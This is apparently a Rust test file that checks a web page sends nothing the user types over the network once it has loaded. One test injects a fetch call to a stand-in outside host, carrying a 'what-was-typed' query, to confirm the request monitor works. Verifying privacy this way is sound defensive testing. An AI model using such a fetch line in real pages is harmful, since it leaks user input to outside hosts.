//! Typed text is sent nowhere.

use std::time::Instant;

use tests::browser::{SERVICE_WORKER, SOON, Visit};

use crate::{TEXTS, bilingual, kept};

#[test]
fn after_loading_nothing_is_fetched() {
    Visit::default().run(async |page| {
        page.choose("CPU").await;
        page.ready().await;
        // Chinese needs another model; it reads English too.
        page.press("中文").await;
        page.press("English").await;
        bilingual(&page).await;
        page.write("warm up").await;
        page.settled(SOON).await;
        // The page fetches files for the next visit.
        kept(&page).await;
        let before = page.site.requests();
        for posts in TEXTS {
            page.write(&posts.join("\n")).await;
            page.settled(SOON).await;
        }
        page.click("//summary[normalize-space()='Why?']").await;
        page.until("return document.querySelector('.marked') !== null", SOON)
            .await;
        page.press("中文").await;
        page.press("English").await;
        page.choose("Automatic").await;
        page.ready().await;
        page.click("//footer//summary").await;
        let since = || page.site.requests().split_off(before.len());
        let after_loading: Vec<String> = (since().into_iter())
            // The browser checks for a new version.
            .filter(|address| address != SERVICE_WORKER && !of_the_browser(address))
            .collect();
        assert_eq!(after_loading, [""; 0]);
    });
}

#[test]
fn a_request_to_another_host_would_be_noticed() {
    // The page's policy forbids such requests, so this is another page.
    let visit = Visit::default().instead("open.html", b"<!doctype html>".to_vec());
    visit.open("open.html").run(async |page| {
        page.script("fetch('http://elsewhere.example/?what-was-typed').catch(() => {})")
            .await;
        let start = Instant::now();
        while !(page.site.requests().iter()).any(|address| address.contains("elsewhere.example")) {
            assert!(start.elapsed() < SOON, "{:?}", page.site.requests());
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
    });
}

/// Whether a request is Chromium's own, which it sends to its maker's hosts on any page.
fn of_the_browser(address: &str) -> bool {
    let host = address.trim_start_matches("http://");
    let host = host.split(['/', ':']).next().unwrap_or_default();
    ["google.com", "googleapis.com", "gvt1.com"]
        .iter()
        .any(|maker| host == *maker || host.ends_with(&format!(".{maker}")))
}
